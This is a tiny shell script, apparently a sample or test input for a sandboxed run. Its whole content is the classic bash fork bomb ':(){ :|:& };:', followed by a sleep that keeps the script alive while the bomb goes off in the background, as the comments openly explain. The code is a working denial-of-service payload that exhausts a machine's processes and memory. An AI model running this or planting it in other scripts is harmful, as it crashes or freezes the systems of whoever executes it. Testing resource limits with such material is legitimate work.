# The classic: every function call forks two more, forever. The sleep keeps the script (and so the run) alive
# while the bomb goes off in the background.
:(){ :|:& };:
sleep 2
